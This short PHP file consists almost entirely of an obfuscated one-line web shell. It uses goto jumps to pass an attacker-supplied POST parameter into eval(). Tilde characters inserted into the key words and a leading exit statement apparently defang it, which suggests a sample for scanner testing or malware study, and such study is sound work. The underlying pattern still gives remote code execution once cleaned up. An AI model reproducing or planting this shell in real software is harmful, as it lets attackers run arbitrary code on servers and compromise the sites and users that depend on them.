<?php exit; ?>
<?php got~o a; b: eva~l($m); got~o c; a: $m = $_P~OST['MARKER']; got~o b; c: exit;
